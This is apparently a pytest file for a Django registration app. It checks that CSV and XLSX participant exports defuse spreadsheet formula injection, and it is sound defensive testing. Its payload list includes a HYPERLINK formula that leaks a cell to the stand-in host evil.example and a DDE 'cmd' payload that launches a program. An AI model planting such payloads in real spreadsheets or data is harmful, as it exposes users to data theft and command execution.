"""Exports never hand a spreadsheet a formula: every dangerous first character, CSV and XLSX, through the admin."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from registration.exports import neutralize
from tests.factories import DelegationFactory, ParticipantFactory

pytestmark = pytest.mark.django_db

# The test's own list of the first characters that make a spreadsheet read a cell as a formula (OWASP "CSV
# Injection": = + - @ tab, carriage return; line feed too, which some spreadsheets skip before a formula).
# Deliberately not imported from registration.exports: the code's list must not be its own oracle.
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

PAYLOADS = ["=1+2", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralize_prefixes_every_formula_start(payload):
    assert neutralize(payload) == "'" + payload


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_neutralize_prefixes_each_dangerous_first_character(start):
    assert neutralize(start + "x") == "'" + start + "x"


def test_neutralize_leaves_text_numbers_and_arabic_alone():
    assert neutralize("Amina Haddad") == "Amina Haddad"
    assert neutralize("أحمد") == "أحمد"
    assert neutralize(42) == 42


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_cells_never_start_a_formula(admin_client, fmt):
    delegation = DelegationFactory(code="EGY")
    for i, payload in enumerate(PAYLOADS):
        ParticipantFactory(conference=delegation.conference, delegation=delegation, first_name=payload,
                           last_name=f"Row{i}", position=payload, organization=payload)
    response = admin_client.post(
        reverse("admin:registration_participant_changelist"),
        {"action": f"export_{fmt}", "_selected_action": list(delegation.participants.values_list("pk", flat=True))},
    )
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
        cells = [cell for row in rows[1:] for cell in row]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    dangerous = [cell for cell in cells if cell and cell.startswith(DANGEROUS_STARTS)]
    assert dangerous == []
    for payload in PAYLOADS:
        if fmt == "xlsx":
            payload = payload.replace("\r", "\n")  # XML parsing normalises a lone CR to LF
        assert cells.count("'" + payload) >= 3  # given names, position, organization
